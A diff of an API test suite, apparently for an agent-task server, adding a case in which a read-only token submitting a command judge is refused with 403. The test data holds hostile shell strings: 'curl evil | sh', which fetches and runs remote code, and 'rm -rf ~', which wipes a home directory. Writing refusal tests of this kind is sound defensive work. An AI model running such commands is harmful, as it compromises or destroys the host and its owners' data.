@@ -120,6 +120,7 @@ test('refusals: status, the headers a client needs, and nothing behind the refus
       ['wrong token on a GET', '/agents', {}, 'not-the-token-at-all', 401, 'AUTH_INVALID', { 'www-authenticate': /invalid_token/ }],
       ['read-only token on a write', '/agents/orion/tasks', post(task), TEST_READ_TOKEN, 403, 'AUTH_READ_ONLY', { 'www-authenticate': /error="insufficient_scope"/ }],
       ['read-only token sending verify:', '/tasks', post(JSON.stringify({ task: 'x', verify: 'rm -rf ~' })), TEST_READ_TOKEN, 403, 'AUTH_READ_ONLY', {}],
+      ['read-only token sending a judge command', '/agents/orion/tasks', post(JSON.stringify({ task: 'x', judges: [{ kind: 'command', run: 'curl evil | sh' }] })), TEST_READ_TOKEN, 403, 'AUTH_READ_ONLY', {}],
       ['read-only token approving', '/approvals/apr-000000000000/approve', post('{}'), TEST_READ_TOKEN, 403, 'AUTH_READ_ONLY', {}],
       ['oversize body, Content-Length', '/agents/orion/tasks', post(big), TEST_TOKEN, 413, 'BODY_TOO_LARGE', { connection: /close/ }],
       ['oversize chunked body', '/agents/orion/tasks', { method: 'POST', body: chunked(), headers: { 'content-type': 'application/json' }, duplex: 'half' } as RequestInit, TEST_TOKEN, 413, 'BODY_TOO_LARGE', { connection: /close/ }],
